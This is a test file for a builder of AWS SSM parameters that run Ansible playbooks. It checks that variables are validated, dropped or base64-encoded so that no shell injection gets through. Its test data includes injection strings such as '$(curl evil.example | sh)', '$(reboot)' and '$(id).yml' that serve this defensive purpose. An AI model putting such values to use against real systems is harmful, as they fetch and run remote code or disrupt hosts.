import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import fc from 'fast-check';
import { afterAll, describe, expect, it } from 'vitest';
import { isSafeKey, isSafeValue, MAX_VALUE_LENGTH } from '../../functions/core/extra-vars.js';
import {
  decodeB64Var,
  InvalidSsmParameterError,
  type VarAdjustment,
  whyReserved,
} from '../../functions/core/ssm-parameters.js';
import { applyAnsibleSchemaPath } from '../helpers/paths.js';
import { BUNDLE_URL, build, playbook, requireTool, runDocumentLine } from '../helpers/ssm-document.js';

// ---------------------------------------------------------------------------------------------
// The document's parameter schema, as AWS returns it. Patterns are compiled from the fixture, never copied.

const fixturePath = applyAnsibleSchemaPath;

interface ParameterSchema {
  readonly type: string;
  readonly allowedValues?: readonly string[];
  readonly allowedPattern?: string;
}
const schema = JSON.parse(readFileSync(fixturePath, 'utf8')) as {
  parameters: Record<string, ParameterSchema>;
};
const EXTRA_VARIABLES_PATTERN = new RegExp(schema.parameters.ExtraVariables?.allowedPattern as string);

/** Checks one SendCommand parameter set against the schema, reading each pattern both as a search and as a full match. */
function expectValidForDocument(parameters: Record<string, string[]>): void {
  for (const [name, values] of Object.entries(parameters)) {
    const spec = schema.parameters[name];
    expect(spec, `${name} is not a parameter of the document`).toBeDefined();
    expect(values, name).toHaveLength(1);
    const value = values[0] as string;
    if (spec?.allowedValues) expect(spec.allowedValues, name).toContain(value);
    if (spec?.allowedPattern) {
      expect(new RegExp(spec.allowedPattern).test(value), `${name}=${value} vs ${spec.allowedPattern}`).toBe(
        true,
      );
      expect(new RegExp(`^(?:${spec.allowedPattern})$`).test(value), `${name}=${value} (full match)`).toBe(
        true,
      );
    }
    if (spec?.type === 'StringMap') {
      const map = JSON.parse(value) as Record<string, unknown>;
      for (const member of Object.values(map)) expect(typeof member, name).toBe('string');
    }
  }
}

// ---------------------------------------------------------------------------------------------

/** ExtraVariables without the identity pairs every run carries (tested on their own below). */
function extraVariables(result: { parameters: Record<string, string[]> }): string {
  return withoutIdentity(result.parameters.ExtraVariables?.[0] as string);
}

function withoutIdentity(text: string): string {
  return text
    .split(' ')
    .filter((pair) => pair !== '' && !/^autoprov_(instance_id|host_label)=/.test(pair))
    .join(' ');
}

/** ExtraVariables text → [key, value] pairs (keys are `\w+`, so the first `=` ends the key). */
function pairsOf(text: string): [string, string][] {
  if (text === '') return [];
  return text.split(' ').map((pair) => {
    const at = pair.indexOf('=');
    return [pair.slice(0, at), pair.slice(at + 1)];
  });
}

/** An object with arbitrary own keys, `__proto__` included, as a record parsed from JSON would have. */
function record(entries: readonly (readonly [string, string])[]): Record<string, string> {
  const out: Record<string, string> = {};
  for (const [key, value] of entries) {
    Object.defineProperty(out, key, { value, enumerable: true, writable: true, configurable: true });
  }
  return out;
}

describe('buildApplyPlaybooksParameters', () => {
  it('builds every parameter of a typical run, valid for the document', () => {
    const result = build({
      playbook: playbook({ extraVars: { http_port: '8080' }, check: true, timeoutSeconds: 1200 }),
      hostVars: { ec2_instance_type: 't3.micro', tag_Name: 'web-1', http_port: '80' },
      installDependencies: true,
      verbose: '-vv',
    });
    expect(result).toEqual({
      parameters: {
        SourceType: ['S3'],
        SourceInfo: [`{"path":"${BUNDLE_URL}"}`],
        InstallDependencies: ['True'],
        PlaybookFile: ['nginx.yml'],
        ExtraVariables: [
          'autoprov_host_label=i-0123456789abcdef0 autoprov_instance_id=i-0123456789abcdef0 ec2_instance_type=t3.micro http_port=8080 tag_Name=web-1',
        ],
        Check: ['True'],
        Verbose: ['-vv'],
        TimeoutSeconds: ['1200'],
      },
      adjustments: [],
    });
    expectValidForDocument(result.parameters);
  });

  it('defaults to -v, Check False, InstallDependencies False and an empty ExtraVariables', () => {
    const result = build();
    expect(result.parameters).toMatchObject({
      Verbose: ['-v'],
      Check: ['False'],
      InstallDependencies: ['False'],
      ExtraVariables: ['autoprov_host_label=i-0123456789abcdef0 autoprov_instance_id=i-0123456789abcdef0'],
    });
    expectValidForDocument(result.parameters);
  });

  it("lets the playbook's own extra vars win over host vars", () => {
    const result = build({
      playbook: playbook({ extraVars: { a: 'playbook' } }),
      hostVars: { a: 'host', b: 'host' },
    });
    expect(extraVariables(result)).toBe('a=playbook b=host');
  });

  it('sorts by the key sent, encoded keys included', () => {
    const result = build({ hostVars: { b: '2', a: 'x y', a_c: '3', A: '0' } });
    expect(pairsOf(extraVariables(result)).map(([key]) => key)).toEqual(['A', 'a_b64', 'a_c', 'b']);
  });

  describe('adjustments', () => {
    const adjustmentFor = (hostVars: Record<string, string>, key: string): VarAdjustment | undefined =>
      build({ hostVars }).adjustments.find((adjustment) => adjustment.key === key);

    it.each(['bad-key', '1abc', 'ключ', '', 'a b', 'a$b', 'a.b'])('drops an unsafe key %j', (key) => {
      const result = build({ hostVars: record([[key, 'value']]) });
      expect(result.adjustments).toEqual([
        { key, action: 'dropped', reason: expect.stringMatching(/not a valid Ansible variable name/) },
      ]);
      expect(extraVariables(result)).toBe('');
    });

    it("drops an inventory's connection variables and Ansible's magic variables, keeps the interpreter", () => {
      // Arrange: vars of a host from an inventory written for SSH
      const hostVars = {
        ansible_host: '10.0.0.5',
        ansible_port: '2222',
        ansible_user: 'deploy',
        ansible_connection: 'ssh',
        ansible_become_password: 'hunter2',
        ansible_python_interpreter: '/usr/bin/python3',
        groups: 'web',
        site: 'dc1',
      };

      // Act
      const result = build({ hostVars });

      // Assess
      expect(extraVariables(result)).toBe('ansible_python_interpreter=/usr/bin/python3 site=dc1');
      expect(result.adjustments.map((a) => [a.key, a.action])).toEqual([
        ['ansible_become_password', 'dropped'],
        ['ansible_connection', 'dropped'],
        ['ansible_host', 'dropped'],
        ['ansible_port', 'dropped'],
        ['ansible_user', 'dropped'],
        ['groups', 'dropped'],
      ]);
      expect(result.adjustments[0]?.reason).toMatch(
        /connection\/behaviour variable: SSM runs the playbook on the host itself/,
      );
      expect(result.adjustments.at(-1)?.reason).toMatch(/magic variable/);
    });

    it('drops an empty value (the document needs key=value with a value)', () => {
      expect(adjustmentFor({ empty: '', kept: 'x' }, 'empty')).toEqual({
        key: 'empty',
        action: 'dropped',
        reason: expect.stringMatching(/value is empty/),
      });
      expect(extraVariables(build({ hostVars: { empty: '', kept: 'x' } }))).toBe('kept=x');
    });

    it('encodes an unsafe value as <key>_b64 and says so', () => {
      const value = '$(curl evil.example | sh) `id` "q" \'s\' \\ ; | & < > ~ ! # { } [ ] * ?\n\tnaïve ☃ 😀';
      const result = build({ hostVars: { motd: value } });
      expect(result.adjustments).toEqual([
        {
          key: 'motd',
          action: 'encoded',
          sentAs: 'motd_b64',
          reason: expect.stringMatching(/characters outside .*; sent base64-encoded/),
        },
      ]);
      const [[key, sent] = []] = pairsOf(extraVariables(result));
      expect(key).toBe('motd_b64');
      expect(sent).toBe(Buffer.from(value, 'utf8').toString('base64'));
      expect(decodeB64Var(sent as string)).toBe(value);
    });

    it('drops an unsafe value whose encoded name is a real var, and still sends that var', () => {
      const result = build({ hostVars: { motd: 'a b', motd_b64: 'real' } });
      expect(result.adjustments).toEqual([
        { key: 'motd', action: 'dropped', reason: expect.stringMatching(/motd_b64 would collide/) },
      ]);
      expect(extraVariables(result)).toBe('motd_b64=real');
    });

    it('drops an unsafe value whose base64 form is too long, and encodes one that fits', () => {
      // 3 bytes → 4 base64 characters: 768 bytes is exactly MAX_VALUE_LENGTH encoded.
      const fits = '$'.repeat((MAX_VALUE_LENGTH / 4) * 3);
      const tooLong = `${fits}$`;
      expect(adjustmentFor({ v: fits }, 'v')).toMatchObject({ action: 'encoded', sentAs: 'v_b64' });
      expect(adjustmentFor({ v: tooLong }, 'v')).toEqual({
        key: 'v',
        action: 'dropped',
        reason: expect.stringMatching(/base64 form is 1028 characters \(max 1024\)/),
      });
    });

    it('drops a safe-looking value longer than the limit, saying it is too long', () => {
      const result = build({
        hostVars: { v: 'a'.repeat(MAX_VALUE_LENGTH + 1), w: 'a'.repeat(MAX_VALUE_LENGTH) },
      });
      expect(result.adjustments).toEqual([
        {
          key: 'v',
          action: 'dropped',
          reason: expect.stringMatching(/^value is longer than 1024 characters, and its base64 form/),
        },
      ]);
      expect(extraVariables(result)).toBe(`w=${'a'.repeat(MAX_VALUE_LENGTH)}`);
    });

    it('drops a value with an unpaired surrogate, which has no faithful UTF-8 form', () => {
      expect(adjustmentFor({ v: 'ab\ud800c' }, 'v')).toEqual({
        key: 'v',
        action: 'dropped',
        reason: expect.stringMatching(/unpaired surrogate/),
      });
    });

    it('never echoes a dropped or encoded value into the audit reason', () => {
      const secret = 'hunter2 $(secret)';
      const result = build({ hostVars: { a: secret, a_b64: 'x', b: secret } });
      for (const adjustment of result.adjustments)
        expect(JSON.stringify(adjustment)).not.toContain('hunter2');
    });

    it('handles keys that are Object.prototype names as plain data', () => {
      const result = build({
        hostVars: record([
          ['__proto__', 'p'],
          ['constructor', 'c'],
          ['toString', 't'],
        ]),
      });
      expect(extraVariables(result)).toBe('__proto__=p constructor=c toString=t');
    });
  });

  describe('validation', () => {
    it.each([
      ['http://bucket.s3.amazonaws.com/b.zip', /must be an https URL/],
      ['s3://bucket/b.zip', /must be an https URL/],
      ['not a url', /is not a URL/],
      ['https://user:pw@bucket.s3.amazonaws.com/b.zip', /must not carry credentials/],
    ])('refuses bundle URL %j', (bundleUrl, message) => {
      expect(() => build({ bundleUrl })).toThrow(InvalidSsmParameterError);
      expect(() => build({ bundleUrl })).toThrow(message);
      expect(() => build({ bundleUrl })).toThrow(/SourceInfo/);
    });

    it.each([
      '../etc/site.yml',
      '/etc/site.yml',
      'roles/../site.yml',
      '-i.yml',
      'x/-v.yml',
      'a;b.yml',
      'a b.yml',
      '$(id).yml',
      'site.yml\n',
      'site.txt',
      '.yml',
      'site.yml.j2',
      'a(b).yml',
      '',
    ])('refuses playbook file %j', (file) => {
      expect(() => build({ playbook: playbook({ file }) })).toThrow(/PlaybookFile/);
    });

    it.each(['site.yml', 'site.yaml', 'roles/web/main.yml', '_x.yml', 'a.b-c_d/0.yml'])(
      'accepts playbook file %j',
      (file) => {
        const result = build({ playbook: playbook({ file }) });
        expect(result.parameters.PlaybookFile).toEqual([file]);
        expectValidForDocument(result.parameters);
      },
    );

    it.each([0, -1, 1.5, 10_000_000, Number.NaN])('refuses timeoutSeconds %s', (timeoutSeconds) => {
      expect(() => build({ playbook: playbook({ timeoutSeconds }) })).toThrow(/TimeoutSeconds/);
    });

    it.each([1, 9_999_999])('accepts timeoutSeconds %s', (timeoutSeconds) => {
      expectValidForDocument(build({ playbook: playbook({ timeoutSeconds }) }).parameters);
    });

    it('refuses a verbosity the document does not allow', () => {
      expect(() => build({ verbose: '-x' as never })).toThrow(/Verbose/);
    });
  });
});

// ---------------------------------------------------------------------------------------------
// Properties over hostile input.

const SHELL_METAS = [
  '`',
  '$',
  '"',
  "'",
  '\\',
  '\n',
  ';',
  '|',
  '&',
  '(',
  ')',
  '<',
  '>',
  ' ',
  '\t',
  '*',
  '?',
  '~',
  '!',
  '#',
  '{',
  '}',
  '[',
  ']',
];
const shellMetaString = (maxLength: number, minLength = 0) =>
  fc.string({
    unit: fc.constantFrom(...SHELL_METAS, 'a', '=', '-', '_', '$(', '${', '\r', '\0'),
    minLength,
    maxLength,
  });
const safeKey = fc.stringMatching(/^[A-Za-z_][A-Za-z0-9_]{0,12}$/);
const keyArb = fc.oneof(
  safeKey,
  safeKey.map((key) => `${key}_b64`),
  fc.constantFrom(
    'a',
    'a_b64',
    '__proto__',
    'constructor',
    'SSM',
    'ansible_host',
    'ansible_python_interpreter',
    'groups',
  ),
  fc.string({ unit: 'binary', maxLength: 12 }),
  fc.string({ unit: 'grapheme', maxLength: 6 }),
  shellMetaString(8),
);
const valueArb = fc.oneof(
  fc.stringMatching(/^[A-Za-z0-9_.,/@%+=-]{0,24}$/),
  fc.string({ unit: 'binary' }),
  fc.string({ unit: 'grapheme' }),
  fc.string({ unit: 'binary-ascii' }),
  shellMetaString(40),
  shellMetaString(2000, 600),
  fc.string({ unit: fc.constantFrom('a', '$', '😀', ' '), minLength: 700, maxLength: 1400 }),
  fc.string({
    unit: fc.integer({ min: 0xd800, max: 0xdfff }).map((code) => String.fromCharCode(code)),
    maxLength: 3,
  }),
);
const varsArb = fc.array(fc.tuple(keyArb, valueArb), { maxLength: 8 }).map(record);

/** What the encoder should have been given: host vars overlaid by the playbook's. */
/** What is sent: host vars, then the playbook's extraVars, then the identity (which always wins). */
function merged(hostVars: Record<string, string>, extraVars: Record<string, string>): Map<string, string> {
  return new Map([
    ...Object.entries(hostVars),
    ...Object.entries(extraVars),
    ['autoprov_instance_id', 'i-0123456789abcdef0'],
    ['autoprov_host_label', 'i-0123456789abcdef0'],
  ]);
}

describe('playbook identity', () => {
  it('always sends autoprov_instance_id, and the Name as autoprov_host_label when it is safe', () => {
    const sent = (name?: string) =>
      new Map(
        pairsOf(
          build({
            hostVars: { tag_Name: 'x', autoprov_instance_id: 'spoofed' },
            identity: { instanceId: 'i-0123456789abcdef0', ...(name === undefined ? {} : { name }) },
          }).parameters.ExtraVariables?.[0] as string,
        ),
      );

    expect(sent('web-1').get('autoprov_instance_id')).toBe('i-0123456789abcdef0');
    expect(sent('web-1').get('autoprov_host_label')).toBe('web-1');
    // A Name that had to be encoded (tag_Name_b64) is never the label: the instance id is.
    expect(sent('web 1; $(reboot)').get('autoprov_host_label')).toBe('i-0123456789abcdef0');
    expect(sent('').get('autoprov_host_label')).toBe('i-0123456789abcdef0');
    expect(sent().get('autoprov_host_label')).toBe('i-0123456789abcdef0');
  });
});

describe('ExtraVariables properties', () => {
  it('(a) always satisfies the document pattern, and every parameter its schema', () => {
    fc.assert(
      fc.property(varsArb, varsArb, (hostVars, extraVars) => {
        const result = build({ hostVars, playbook: playbook({ extraVars }) });
        expect(EXTRA_VARIABLES_PATTERN.test(extraVariables(result))).toBe(true);
        expectValidForDocument(result.parameters);
      }),
      { numRuns: 400 },
    );
  });

  it('(b) holds only [A-Za-z0-9_.,/@%+=-] and single spaces between pairs', () => {
    fc.assert(
      fc.property(varsArb, varsArb, (hostVars, extraVars) => {
        const text = extraVariables(build({ hostVars, playbook: playbook({ extraVars }) }));
        expect(text).toMatch(/^[A-Za-z0-9_.,/@%+= -]*$/);
        if (text !== '')
          expect(text.split(' ').every((pair) => /^[A-Za-z_]\w*=[A-Za-z0-9_.,/@%+=-]+$/.test(pair))).toBe(
            true,
          );
      }),
      { numRuns: 400 },
    );
  });

  it('(c) sends every pair raw, or as a _b64 that decodes to the exact original, or reports it dropped', () => {
    fc.assert(
      fc.property(varsArb, varsArb, (hostVars, extraVars) => {
        const { parameters, adjustments } = build({ hostVars, playbook: playbook({ extraVars }) });
        const input = merged(hostVars, extraVars);
        const sent = new Map(pairsOf(parameters.ExtraVariables?.[0] as string));
        const byKey = new Map(adjustments.map((adjustment) => [adjustment.key, adjustment]));
        expect(byKey.size, 'one adjustment per key at most').toBe(adjustments.length);
        expect(adjustments.map((a) => a.key)).toEqual([...byKey.keys()].sort());
        for (const [key, value] of input) {
          const adjustment = byKey.get(key);
          if (whyReserved(key) !== undefined) {
            expect(adjustment).toMatchObject({ action: 'dropped', reason: whyReserved(key) });
            expect(sent.has(key)).toBe(false);
          } else if (isSafeKey(key) && isSafeValue(value) && value !== '') {
            expect(adjustment).toBeUndefined();
            expect(sent.get(key)).toBe(value);
          } else if (adjustment?.action === 'encoded') {
            expect(adjustment.sentAs).toBe(`${key}_b64`);
            expect(input.has(`${key}_b64`)).toBe(false);
            expect(sent.has(key)).toBe(false);
            expect(decodeB64Var(sent.get(`${key}_b64`) as string)).toBe(value);
          } else {
            expect(adjustment, `${JSON.stringify(key)} neither sent raw nor reported`).toMatchObject({
              action: 'dropped',
              reason: expect.any(String),
            });
            expect(sent.has(key)).toBe(false);
          }
        }
        // Nothing sent that was not asked for.
        for (const key of sent.keys()) {
          const original = key.endsWith('_b64') && byKey.get(key.slice(0, -4))?.action === 'encoded';
          expect(original || input.get(key) === sent.get(key), `unexpected ${key}`).toBe(true);
        }
        for (const key of byKey.keys()) expect(input.has(key)).toBe(true);
      }),
      { numRuns: 400 },
    );
  });

  it('is deterministic and independent of input key order', () => {
    fc.assert(
      fc.property(varsArb, (hostVars) => {
        const reversed = record(Object.entries(hostVars).reverse());
        expect(build({ hostVars: reversed })).toEqual(build({ hostVars }));
      }),
    );
  });
});

// ---------------------------------------------------------------------------------------------
// The document's command line, pasted textually into a script exactly as the document does.

const workDir = mkdtempSync(path.join(tmpdir(), 'autoprov-ssm-params-'));
afterAll(() => rmSync(workDir, { recursive: true, force: true }));

describe('the document command line in a real shell', () => {
  it.each(['bash', 'sh'])('%s passes ExtraVariables through byte for byte, with no expansion', (shell) => {
    requireTool(shell, `install ${shell} (Debian/Ubuntu: sudo apt-get install -y bash dash)`);
    const fileArb = fc.oneof(
      fc.constantFrom('site.yml', 'roles/web/main.yaml'),
      fc.stringMatching(/^[A-Za-z0-9_][A-Za-z0-9_.-]{0,8}\.yml$/),
    );
    fc.assert(
      fc.property(varsArb, varsArb, fileArb, (hostVars, extraVars, file) => {
        const { parameters } = build({ hostVars, playbook: playbook({ extraVars, file }), verbose: '-vvv' });
        const text = parameters.ExtraVariables?.[0] as string;
        const run = runDocumentLine(shell, parameters, { fake: true, cwd: workDir });
        expect(run.stderr).toBe('');
        expect(run.status).toBe(0);
        expect(run.stdout).toBe(['-i', 'localhost,', '-c', 'local', '-e', text, '-vvv', file, ''].join('\n'));
      }),
      { numRuns: 100 },
    );
  });
});
